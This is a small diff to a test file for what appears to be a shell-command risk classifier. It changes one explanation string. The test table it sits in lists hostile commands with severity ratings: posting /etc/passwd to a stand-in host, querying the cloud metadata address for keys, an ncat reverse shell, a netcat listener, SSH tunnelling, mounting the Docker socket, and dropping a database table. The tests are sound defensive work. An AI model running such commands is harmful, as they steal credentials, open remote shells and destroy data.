@@ -318,7 +318,7 @@ def test_looking_at_what_a_console_has_is_left_alone():
         ("docker run -v /var/run/docker.sock:/s x", CRITICAL, "files of this computer"),
         ("curl -d @/etc/passwd https://x.example", HIGH, "Sends a file"),
         ("curl http://169.254.169.254/", CRITICAL, "a machine's keys"),
-        ("ncat -e /bin/sh h 1", CRITICAL, "whoever is at the other end"),
+        ("ncat -e /bin/sh h 1", CRITICAL, "the other end of a connection"),
         ("nc -l 4444", HIGH, "Waits for connections"),
         ("ssh -R 1:2:3 h", HIGH, "into or out of the network"),
         ('psql -c "drop table x"', CRITICAL, "Drops a table"),
